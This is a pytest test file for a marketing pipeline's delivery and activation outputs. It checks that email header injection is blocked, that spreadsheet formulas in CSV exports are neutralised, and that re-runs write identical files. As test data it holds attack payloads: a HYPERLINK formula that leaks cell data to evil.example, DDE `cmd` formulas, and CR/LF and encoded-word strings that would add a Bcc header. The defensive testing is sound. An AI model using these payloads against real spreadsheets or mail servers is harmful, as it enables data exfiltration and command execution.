"""Attacks on delivery and the activation outputs (docs/reliability.md,
"Delivery and activation outputs"), on DuckDB and PostgreSQL where they touch the warehouse.

- a CR/LF in data that reaches an email header (an account name in a subject) cannot add a
  header, and a message that cannot be built or sent fails alone, with its reason, in the build
  summary and the UI, never stopping other messages or later builds;
- a re-run at the same as-of, or after a kill, writes the same activation files (the full fault
  suite is test_faults.py; here a plain re-run on hand-made tables);
- values a spreadsheet would run are neutralised in the files people open;
- a `_` in `form_visitors.page_contains` is a character, not a LIKE wildcard.
"""

from __future__ import annotations

import asyncio
import csv
import email
import email.policy
import io
import json
import socket
from datetime import datetime
from email.message import EmailMessage

import dagster as dg
import pandas as pd
import pytest
from aiosmtpd.controller import Controller

from blueprint_pipeline.activation import files
from blueprint_pipeline.activation.files import write_folder
from blueprint_pipeline.activation.linkedin import persons_of, targeting, write_list
from blueprint_pipeline.config.activation import ContactList, LinkedIn
from blueprint_pipeline.core.csv_safety import cell
from blueprint_pipeline.core.run_facts import AS_OF_TAG
from blueprint_pipeline.defs.activation.crm import crm_buying_group_writeback
from blueprint_pipeline.defs.journeys.delivery import journey_deliveries
from blueprint_pipeline.defs.reporting.dashboard import dashboard
from blueprint_pipeline.defs.reporting.kpis import kpis
from blueprint_pipeline.journeys.delivery import (
    MAX_ATTEMPTS,
    POLICY,
    MailboxSender,
    SmtpSender,
    check_headers,
    deliver,
    email_message,
)
from blueprint_pipeline.reporting.dashboard import sales_handoff
from blueprint_pipeline.resources import (
    ActivationResource,
    BlueprintConfigResource,
    DeliveryResource,
    LandingResource,
)
from blueprint_pipeline_tests.activation.test_crm import _build as _crm_build
from blueprint_pipeline_tests.activation.test_crm import _rows as _crm_rows
from blueprint_pipeline_tests.activation.test_crm import _tables as _crm_tables
from blueprint_pipeline_tests.activation.test_linkedin import CONFIG as LINKEDIN_CONFIG
from blueprint_pipeline_tests.activation.test_linkedin import _build as _linkedin_build
from blueprint_pipeline_tests.activation.test_linkedin import _tables as _linkedin_tables
from blueprint_pipeline_tests.journeys.test_delivery import _message, _outbox
from blueprint_pipeline_tests.reporting.test_dashboard import more_tables

INJECTED = "Orion Labs\r\nBcc: a@evil.example"


class Envelopes:
    """An aiosmtpd handler keeping each message's envelope recipients and its raw bytes."""

    def __init__(self):
        self.received: list[tuple[list[str], bytes]] = []

    async def handle_DATA(self, server, session, envelope):
        await asyncio.sleep(0)
        self.received.append((list(envelope.rcpt_tos), envelope.content))
        return "250 OK"


@pytest.fixture
def smtp_server():
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        port = s.getsockname()[1]
    handler = Envelopes()
    controller = Controller(handler, hostname="127.0.0.1", port=port)
    controller.start()
    yield handler, f"smtp://127.0.0.1:{port}"
    controller.stop()


def _statuses(warehouse) -> dict[str, tuple]:
    rows = warehouse.fetchall("select message_id, status, attempts, last_error from journey_outbox")
    return {m: (s, int(a), e) for m, s, a, e in rows}


def test_a_crlf_in_a_subject_cannot_add_a_header(warehouse, smtp_server):
    """The account name `Orion Labs\\r\\nBcc: a@evil.example` reaches a subject: the message goes
    to its one recipient, with the name on one line, and no Bcc."""
    handler, url = smtp_server
    bad = _message(1) | {"subject": f"News for {INJECTED}"}
    _outbox(warehouse, [bad, _message(2)])
    done = deliver(warehouse, SmtpSender(url), None, "marketing@example.com\r\nX-Injected: yes")
    assert done.sent == {"email": 2} and done.errors == []
    recipients = sorted(r for rs, _ in handler.received for r in rs)
    assert recipients == ["p1@example.com", "p2@example.com"], "nobody but the recipients"
    first = next(c for rs, c in handler.received if rs == ["p1@example.com"])
    headers = first.split(b"\r\n\r\n", 1)[0].split(b"\r\n")
    assert b"Subject: News for Orion Labs Bcc: a@evil.example" in headers
    assert not any(h.lower().startswith((b"bcc:", b"x-injected:")) for h in headers)
    assert {s for s, *_ in _statuses(warehouse).values()} == {"sent"}


def test_a_message_that_cannot_be_built_fails_alone_with_its_reason(warehouse, tmp_path):
    """A recipient that is two addresses and a body that is NULL: each such message is pending with
    its error, then failed after MAX_ATTEMPTS runs; the good message is sent in the first run."""
    two = _message(1) | {"to_address": "p1@example.com, a@evil.example"}
    empty = _message(2) | {"body_text": None}
    _outbox(warehouse, [two, empty, _message(3)])
    mailbox = MailboxSender(tmp_path / "mailbox")
    first = deliver(warehouse, mailbox, None, "marketing@example.com")
    assert first.sent == {"email": 1}
    assert [(m, s) for m, s, _ in first.errors] == [
        ("<m001@example.com>", "pending"),
        ("<m002@example.com>", "pending"),
    ]
    status = _statuses(warehouse)
    assert status["<m003@example.com>"][0] == "sent"
    assert status["<m001@example.com>"][:2] == ("pending", 1)
    assert "is not one email address" in status["<m001@example.com>"][2]
    assert "body_text is not text" in status["<m002@example.com>"][2]
    for _ in range(MAX_ATTEMPTS - 1):
        last = deliver(warehouse, mailbox, None, "marketing@example.com")
    assert last.failed == 2 and {s for _, s, _ in last.errors} == {"failed"}
    assert {m: v[:2] for m, v in _statuses(warehouse).items() if v[0] != "sent"} == {
        "<m001@example.com>": ("failed", MAX_ATTEMPTS),
        "<m002@example.com>": ("failed", MAX_ATTEMPTS),
    }
    assert sorted(p.name for p in (tmp_path / "mailbox").glob("*.eml")) == ["m003.eml"]
    assert deliver(warehouse, mailbox, None, "marketing@example.com").errors == [], "failed is final"


def test_the_asset_reports_what_was_not_sent_and_the_next_build_goes_on(warehouse, tmp_path):
    """journey_deliveries succeeds with the bad message named in its metadata (the UI) and in a
    `summary/` entry (the build summary); the next materialisation succeeds too."""
    _outbox(warehouse, [_message(1) | {"body_text": None}, _message(2)])
    resources = {
        "warehouse": warehouse,
        "blueprint_config": BlueprintConfigResource(config_dir=str(tmp_path / "config")),
        "delivery": DeliveryResource(mailbox_dir=str(tmp_path / "mailbox")),
        "landing": LandingResource(path=str(tmp_path / "landing")),
    }
    (tmp_path / "config").mkdir()
    for attempt in (1, 2):
        result = dg.materialize([journey_deliveries], resources=resources)
        assert result.success
        metadata = result.asset_materializations_for_node("journey_deliveries")[0].metadata
        summary = metadata["summary/not delivered"].value
        assert summary.startswith(
            "1 message(s) not sent (1 retried next run): <m001@example.com>: ValueError"
        )
        assert (
            "<m001@example.com> | pending | ValueError: body_text is not text" in metadata["not_sent"].value
        )
        assert metadata["sent"].value == (1 if attempt == 1 else 0)
    assert _statuses(warehouse)["<m001@example.com>"][:2] == ("pending", 2)


def _files(folder) -> dict[str, bytes]:
    """Every file under `folder` (hidden leftovers included), by relative path."""
    return {str(p.relative_to(folder)): p.read_bytes() for p in sorted(folder.rglob("*")) if p.is_file()}


def test_a_rerun_at_the_same_as_of_writes_the_same_crm_files(warehouse, tmp_path):
    """Build at T1, then at T2 with a journey's field update: the delta holds G2, the Account file
    A1's field. Run again at T2 (the recovery the docs describe): before, account_updates.csv was
    deleted for good and the delta was header-only. Now every file is byte-identical; a build at T3
    is against T2 (nothing changed, the field update not written again)."""
    _crm_build(warehouse, tmp_path, _crm_tables("Engaged", datetime(2026, 3, 1)), "2026-03-02T00:00:00")
    with warehouse.transaction() as session:
        session.replace_table(
            "crm_field_updates",
            pd.DataFrame({"step_key": ["k1"], "account_id": ["A1"], "field": ["Journey_Stage__c"],
                          "value": ["=cmd|' /C calc'!A0"], "journey_id": ["j"],
                          "happened_at": [datetime(2026, 3, 2, 12)]}),
        )  # fmt: skip
    moved = _crm_tables("Marketing Qualified", datetime(2026, 3, 2, 6))
    second = _crm_build(warehouse, tmp_path, moved, "2026-03-03T00:00:00")
    written = _files(second)
    assert written["account_updates.csv"] == b"Id,Journey_Stage__c\nA1,=cmd|' /C calc'!A0\n"  # raw: Bulk API
    assert [r[0] for r in _crm_rows(second / "buying_groups_delta.csv")[1:]] == ["G2"]
    assert json.loads(written["manifest.json"])["formula_like_values"] == 1

    again = _crm_build(warehouse, tmp_path, moved, "2026-03-03T00:00:00")
    assert _files(again) == written
    assert sorted(p.name for p in again.parent.iterdir()) == ["20260302T000000", "20260303T000000"]

    third = _crm_build(warehouse, tmp_path, moved, "2026-03-04T00:00:00")
    assert len(_crm_rows(third / "buying_groups_delta.csv")) == 1
    assert not (third / "account_updates.csv").exists()


def test_a_rerun_at_the_same_as_of_writes_the_same_linkedin_files(warehouse, tmp_path):
    """Build 2 of the LinkedIn example (A2 leaves, A4 joins) run twice: before, the second run's
    adds.csv and removes.csv were header-only; now every file is the same."""
    (tmp_path / "activation.yaml").write_text(LINKEDIN_CONFIG)
    _linkedin_build(warehouse, tmp_path, ["A1", "A2", "A3"], "2026-03-01T00:00:00")
    _linkedin_build(warehouse, tmp_path, ["A1", "A3", "A4"], "2026-03-02T00:00:00")
    out = tmp_path / "out" / "linkedin"
    written = _files(out)
    assert written["targets/20260302T000000/removes.csv"] == b"account_id\nA2\n"
    _linkedin_build(warehouse, tmp_path, ["A1", "A3", "A4"], "2026-03-02T00:00:00")
    assert _files(out) == written
    as_handed_out = warehouse.fetchall(
        "select activated_at, key from activation_members where list_name = 'targets' order by 1, 2"
    )
    assert [k for _, k in as_handed_out] == ["A1", "A2", "A3", "A1", "A3", "A4"], "T1 kept: T2's baseline"


HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A2,"Mary")'


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (HYPERLINK, '"\'=HYPERLINK(""http://evil.example/?d=""&A2,""Mary"")"'),
        ("=cmd|' /C calc'!A0", "\"'=cmd|' /C calc'!A0\""),
        ("+1+cmd|' /C calc'!A0", "\"'+1+cmd|' /C calc'!A0\""),
        ("-2+3", '"\'-2+3"'),
        ("@SUM(A1)", '"\'@SUM(A1)"'),
        ("\tTAB", '"\'\tTAB"'),
        ("\rCR", '"\'\rCR"'),
        ("-5", "-5"),  # a number is data: a spreadsheet reads it as the number it is
        (" =1+1", '"\' =1+1"'),  # an importer may trim the space: neutralised too
        ("\u00a0\n@SUM(A1)", '"\'\u00a0\n@SUM(A1)"'),
        (" -5 ", " -5 "),
        ("\t-5", '"\'\t-5"'),
        (-5.5, "-5.5"),
        ("+49", "+49"),
        ("Mary, Jane", '"Mary, Jane"'),
        ("Mary", "Mary"),
        (None, ""),
    ],
)
def test_a_cell_a_spreadsheet_would_run_is_neutralised(value, written):
    assert cell(value) == written
    raw = cell(value, neutralise=False)  # for machines (the Bulk API files): read back as it was
    assert next(csv.reader(io.StringIO(raw + ",x"))) == ["" if value is None else str(value), "x"]


def test_formulas_are_neutralised_in_the_linkedin_and_marketo_files(tmp_path):
    """A CRM first name `=HYPERLINK(...)` reached the LinkedIn files verbatim: now quoted text."""
    frame = pd.DataFrame(
        {"key": ["p1", "p2"], "email": ["a@x.com", "b@x.com"], "firstname": [HYPERLINK, "Line\nbreak"],
         "lastname": "-Smith", "jobtitle": "CIO", "employeecompany": "@corp", "country": "DE", "googleaid": ""}
    )  # fmt: skip
    settings = LinkedIn(max_records_per_file=1)
    write_list(tmp_path, "contact", "people", frame, set(), settings, {}, "20260302T000000")
    out = tmp_path / "people" / "20260302T000000"
    first = (out / "full-0001.csv").read_text()
    assert first.splitlines()[1] == (
        """a@x.com,"'=HYPERLINK(""http://evil.example/?d=""&A2,""Mary"")","'-Smith",CIO,"'@corp",DE,"""
    )
    with (out / "full-0002.csv").open(newline="") as handle:  # split between rows, not inside one
        assert list(csv.reader(handle))[1][1] == "Line\nbreak"
    assert HYPERLINK not in (out / "adds.csv").read_text().replace("'=", "")
    marketo = frame.rename(columns={"firstname": "firstName", "lastname": "lastName", "jobtitle": "title",
                                    "employeecompany": "company"})  # fmt: skip
    write_list(tmp_path, "marketo", "static", marketo, set(), settings, {}, "20260302T000000")
    assert "\"'=HYPERLINK(" in (tmp_path / "static" / "20260302T000000" / "full-0001.csv").read_text()


def test_an_underscore_in_page_contains_is_a_character(warehouse):
    """`form_visitors.page_contains: "_"` matched every page (a LIKE wildcard): now only the page
    whose address holds an underscore."""
    at = datetime(2026, 3, 2)
    pages = ["https://x.com/contact_form", "https://x.com/pricing", "https://x.com/blog"]
    with warehouse.transaction() as session:
        session.replace_table(
            "int_person_activities",
            pd.DataFrame({"person_id": ["p1", "p2", "p3"], "activity_id": ["a1", "a2", "a3"], "kind": "page_view",
                          "activity_at": [datetime(2026, 3, 1)] * 3}),
        )  # fmt: skip
        session.replace_table(
            "stg_marketo__activities",
            pd.DataFrame({"activity_id": ["a1", "a2", "a3"], "primary_attribute_value": pages}),
        )
    for page, expected in (("_", ["p1"]), ("%", []), ("PRICING", ["p2"])):
        definition = ContactList(form_visitors={"page_contains": page, "within_days": 30})
        sql, params = persons_of(definition, pd.Timestamp(at))
        assert sorted(p for (p,) in warehouse.fetchall(sql, params)) == expected, page


def _field_updates(warehouse, rows: list[tuple[str, str, str, datetime]]) -> None:
    """`crm_field_updates` holding (step key, field, value, when) of account A1."""
    keys, fields, values, times = zip(*rows, strict=True)
    with warehouse.transaction() as session:
        session.replace_table(
            "crm_field_updates",
            pd.DataFrame(
                {
                    "step_key": keys,
                    "account_id": "A1",
                    "field": fields,
                    "value": values,
                    "journey_id": "j",
                    "happened_at": times,
                }
            ),
        )


def test_a_journey_field_update_is_written_out_once_however_many_runs_follow(warehouse, tmp_path):
    """Updates `old` (day 1) and `new` (day 2) of A1's Stage__c, write-backs at days 1 to 9: `old`
    at day 2, `new` at day 3, nothing after. Before, an update counted as sent only while its run's
    row in activation_completed survived the pruning: `old` came back at days 5 and 8, `new` at 6
    and 9, setting Salesforce back every third day. An update the release before recorded (the
    upgrade dates it 1970) is never written again either."""
    tables = _crm_tables("Engaged", datetime(2026, 3, 1))
    with warehouse.transaction() as session:  # what the upgrade leaves of the release before
        session.execute(
            "create table activation_completed (destination varchar, list_name varchar, activated_at timestamp)"
        )
        session.execute(
            "insert into activation_completed values ('crm', 'write-back', timestamp '1970-01-01 00:00:00')"
        )
        session.execute("create table crm_field_updates_sent (step_key varchar, activated_at timestamp)")
        session.execute(
            "insert into crm_field_updates_sent values ('ancient', timestamp '1970-01-01 00:00:00')"
        )
    _field_updates(
        warehouse,
        [("ancient", "Rating", "Hot", datetime(2026, 2, 1)),
         ("k-old", "Stage__c", "old", datetime(2026, 3, 1, 12)),
         ("k-new", "Stage__c", "new", datetime(2026, 3, 2, 12))],
    )  # fmt: skip
    written = {}
    for day in range(1, 10):
        folder = _crm_build(warehouse, tmp_path, tables, f"2026-03-{day:02d}T00:00:00")
        updates = folder / "account_updates.csv"
        written[day] = _crm_rows(updates) if updates.exists() else []
    once = {2: [["Id", "Stage__c"], ["A1", "old"]], 3: [["Id", "Stage__c"], ["A1", "new"]]}
    assert written == {d: once.get(d, []) for d in range(1, 10)}
    assert _files(folder) == _files(_crm_build(warehouse, tmp_path, tables, "2026-03-09T00:00:00"))
    # An earlier as-of would write `old` and `new` again, after day 9: refused, nothing written.
    before = _files(tmp_path / "out")
    result = dg.materialize(
        [crm_buying_group_writeback],
        resources={"warehouse": warehouse, "blueprint_config": BlueprintConfigResource(config_dir=str(tmp_path)),
                   "activation": ActivationResource(path=str(tmp_path / "out"))},
        tags={AS_OF_TAG: "2026-03-05T00:00:00"}, raise_on_error=False,
    )  # fmt: skip
    assert not result.success
    error, failure = result.get_step_failure_events()[0].event_specific_data.error, ""
    while error is not None:  # Dagster wraps the asset's error: its message is in the cause
        failure, error = failure + error.message, error.cause
    assert "as-of 2026-03-05 00:00 is before the last entry of the completed activations of crm" in failure
    assert _files(tmp_path / "out") == before


ENCODED_WORDS = {
    "q": "=?utf-8?q?Orion=0D=0ABcc:_a@evil.example?=",
    "b": "=?utf-8?b?T3Jpb24NCkJjYzogYUBldmlsLmV4YW1wbGU=?=",  # base64 of "Orion\r\nBcc: a@evil.example"
}


def _headers(raw: bytes) -> list[bytes]:
    """The header lines of a message's bytes, whatever its line ends."""
    head = raw.replace(b"\r\n", b"\n").split(b"\n\n", 1)[0]
    return head.split(b"\n")


@pytest.mark.parametrize("form", ["q", "b"])
def test_an_encoded_word_in_a_subject_cannot_add_a_header(warehouse, smtp_server, tmp_path, form):
    """An account name that is an RFC 2047 encoded word of `Orion\\r\\nBcc: a@evil.example`: the
    control characters were stripped before the email library saw it, and the library then decoded
    the word and wrote its CR/LF out raw, a separate `Bcc:` header over SMTP and in the .eml. Now
    `=?` in a header value from data is never an encoded word, and a built message whose headers
    read back differently from what was set fails alone. The same in display names."""
    handler, url = smtp_server
    word = ENCODED_WORDS[form]
    _outbox(warehouse, [_message(1) | {"subject": f"News for {word}"}])
    assert deliver(warehouse, MailboxSender(tmp_path), None, "marketing@example.com").errors == []
    eml = email.message_from_bytes((tmp_path / "m001.eml").read_bytes(), policy=email.policy.default)
    assert "bcc" not in {k.lower() for k in eml}
    assert "\r" not in eml["Subject"] and "\n" not in eml["Subject"]

    bad = _message(2) | {"subject": f"News for {word}"}
    named = _message(3) | {"to_address": f"{word} <p3@example.com>"}
    _outbox(warehouse, [bad, named, _message(4)])
    done = deliver(warehouse, SmtpSender(url), None, f"{word} <marketing@example.com>")
    # The q form's display name holds `@` and `:` unquoted, read as two addresses: refused alone.
    # The b form's is literal text, like the From display name: sent to its one recipient.
    to = {"q": [2, 4], "b": [2, 3, 4]}[form]
    assert done.sent == {"email": len(to)}
    assert [(m, s) for m, s, _ in done.errors] == ([] if 3 in to else [("<m003@example.com>", "pending")])
    assert all("is not one email address" in reason for *_, reason in done.errors)
    assert sorted(r for rs, _ in handler.received for r in rs) == [f"p{i}@example.com" for i in to]
    for _, raw in handler.received:
        assert not any(h.lower().startswith(b"bcc") for h in _headers(raw)), raw


@pytest.mark.parametrize("breaker", ["\u2028", "\u2029", "\x85", "\x00", "\x0b", "\x0c"])
def test_other_line_breaks_in_a_subject_cannot_add_a_header(tmp_path, breaker):
    """U+2028, U+0085, NUL and the other characters some readers take for a line end (built
    directly: PostgreSQL cannot hold a NUL in the outbox)."""
    row = _message(1) | {"subject": f"Orion{breaker}Bcc: a@evil.example"}
    MailboxSender(tmp_path).send(email_message(row, "marketing@example.com", row["unsubscribe_url"]))
    raw = (tmp_path / "m001.eml").read_bytes()
    eml = email.message_from_bytes(raw, policy=email.policy.default)
    assert eml["Subject"] == "Orion Bcc: a@evil.example"
    assert [h.split(b":")[0] for h in _headers(raw)] == [
        b"Message-ID", b"From", b"To", b"Subject", b"Date", b"List-Unsubscribe", b"List-Unsubscribe-Post",
        b"Content-Type", b"Content-Transfer-Encoding", b"MIME-Version",
    ]  # fmt: skip


@pytest.mark.parametrize("form", ["q", "b"])
def test_a_message_whose_headers_read_back_otherwise_is_refused(form):
    """The second guard, should a value ever reach the email library raw: the built message is read
    back from its bytes and refused when it holds a header nobody set."""
    message = EmailMessage(policy=POLICY)
    message["To"] = "p1@example.com"
    message["Subject"] = ENCODED_WORDS[form]  # raw, as before the fix
    message.set_content("Text")
    with pytest.raises(ValueError, match="headers read back as"):
        check_headers(message)


class RefusingAnn(Envelopes):
    """Refuses ann's address for good, with the address in its answer (as real servers do)."""

    async def handle_RCPT(self, server, session, envelope, address, rcpt_options):
        if address.startswith("ann@"):
            return f'550 5.1.1 <{address}>: user "unknown" here'
        envelope.rcpt_tos.append(address)
        return "250 OK"


def test_no_address_reaches_dagsters_event_log_when_a_message_fails(warehouse, tmp_path):
    """A recipient that is two addresses, a recipient the server refuses: the reasons quoted the
    addresses (`to_address 'p1@people.example, a@evil.example' is not one email address`,
    `SMTPRecipientsRefused({'ann@people.example': (550, ...)})`) into the asset's metadata, the
    build summary and a log warning: Dagster's event log, which forget cannot reach. Now those
    carry the reason without data values; `last_error` (which forget redacts) keeps it whole."""
    handler = RefusingAnn()
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        port = s.getsockname()[1]
    controller = Controller(handler, hostname="127.0.0.1", port=port)
    controller.start()
    two = _message(1) | {"to_address": "p1@people.example, a@evil.example"}
    refused = _message(2) | {"to_address": "ann@people.example"}
    _outbox(warehouse, [two, refused, _message(3)])
    (tmp_path / "config").mkdir()
    instance = dg.DagsterInstance.ephemeral()
    try:
        result = dg.materialize(
            [journey_deliveries],
            instance=instance,
            resources={
                "warehouse": warehouse,
                "blueprint_config": BlueprintConfigResource(config_dir=str(tmp_path / "config")),
                "delivery": DeliveryResource(smtp_url=f"smtp://127.0.0.1:{port}"),
                "landing": LandingResource(path=str(tmp_path / "landing")),
            },
        )
    finally:
        controller.stop()
    assert result.success
    metadata = result.asset_materializations_for_node("journey_deliveries")[0].metadata
    assert metadata["sent"].value == 1 and metadata["bounced"].value == 1
    logged = [repr(entry) for entry in instance.all_logs(result.run_id)]
    assert any("not sent (pending)" in entry for entry in logged), "the warning is still logged"
    for where, text in [("metadata", repr(metadata)), *(("event log", e) for e in logged)]:
        assert "people.example" not in text and "evil.example" not in text, (where, text)
    summary = metadata["summary/not delivered"].value
    assert "<m001@example.com>: ValueError: to_address '...' is not one email address" in summary
    assert "<m002@example.com>: SMTPRecipientsRefused" in summary
    kept = _statuses(warehouse)
    assert "p1@people.example, a@evil.example" in kept["<m001@example.com>"][2]
    assert "ann@people.example" in kept["<m002@example.com>"][2]


def test_an_activation_folder_is_never_missing_while_it_is_replaced(tmp_path, monkeypatch):
    """A re-run replaces an as-of's folder: before, the old folder was renamed aside and then the
    new one into its place, so between the two a reader (or a kill) found no folder at all. Now the
    two are exchanged in one step (Linux renameat2): after every rename the folder is there, whole."""
    folder = tmp_path / "crm" / "20260302T000000"
    write_folder(folder, {"a.csv": b"old\n"}, {})
    seen: list[set[str]] = []

    def watched(rename):
        def call(*args, **kwargs):
            result = rename(*args, **kwargs)
            seen.append({p.name for p in folder.iterdir()} if folder.exists() else set())
            return result

        return call

    monkeypatch.setattr(files.os, "replace", watched(files.os.replace))
    monkeypatch.setattr(files, "_exchange", watched(getattr(files, "_exchange", None)), raising=False)
    write_folder(folder, {"a.csv": b"new\n", "b.csv": b"b\n"}, {})
    assert seen and all(names == {"a.csv", "b.csv", "manifest.json"} for names in seen), seen
    assert (folder / "a.csv").read_bytes() == b"new\n"
    assert sorted(p.name for p in folder.parent.iterdir()) == ["20260302T000000"], "no leftovers"


def test_where_folders_cannot_be_exchanged_the_folder_is_still_replaced_whole(tmp_path, monkeypatch):
    """Without an atomic exchange (not Linux, or a file system without it), the two renames."""
    folder = tmp_path / "crm" / "20260302T000000"
    write_folder(folder, {"a.csv": b"old\n"}, {})
    monkeypatch.setattr(files, "_exchange", lambda a, b: False)
    write_folder(folder, {"b.csv": b"b\n"}, {})
    assert sorted(p.name for p in folder.iterdir()) == ["b.csv", "manifest.json"]
    assert sorted(p.name for p in folder.parent.iterdir()) == ["20260302T000000"]


def test_formulas_are_neutralised_in_the_sales_handoff(warehouse, tmp_path):
    """An account name `=HYPERLINK(...)` of a qualified group, and one with a space in front (a
    spreadsheet importer may trim it): the sales hand-off, which sales open in a spreadsheet,
    holds them as text."""
    tables = more_tables()
    tables["unified_accounts"]["account_name"] = ["Acme", f" {HYPERLINK}", HYPERLINK]
    with warehouse.transaction() as session:
        for name, frame in tables.items():
            session.replace_table(name, frame)
    built = dg.materialize(  # the hand-off's frame, from the qualified stages of the config
        [kpis, dashboard],
        selection=["reporting_qualified_stages", "dashboard_sales_handoff"],
        resources={
            "warehouse": warehouse,
            "blueprint_config": BlueprintConfigResource(config_dir=str(tmp_path)),
        },
    )
    assert built.success
    with warehouse.session() as session:
        written = sales_handoff(session)
    rows = list(csv.reader(io.StringIO(written.decode())))
    assert [(r[0], r[1]) for r in rows[1:]] == [("'" + HYPERLINK, "A3"), ("' " + HYPERLINK, "A2")]


def test_formulas_are_neutralised_in_the_linkedin_targeting_file(warehouse):
    """The account name of a group missing roles reaches targeting.csv: neutralised there too."""
    tables = _linkedin_tables(["A1", "A2", "A3"])
    tables["unified_accounts"]["account_name"] = ["A", "B", HYPERLINK, "D"]
    tables["buying_groups"]["missing_required_roles"] = ["", "", "Champion"]
    with warehouse.transaction() as session:
        for name, frame in tables.items():
            session.replace_table(name, frame)
        settings = LinkedIn(role_targeting={"Champion": {"job_functions": ["=1+1"], "seniorities": ["@x"]}})
        written = targeting(session, "data_platform", settings)
    assert list(csv.reader(io.StringIO(written.decode()))) == [
        ["account_id", "company", "missing_roles", "job_functions", "seniorities"],
        ["A3", "'" + HYPERLINK, "Champion", "'=1+1", "'@x"],
    ]
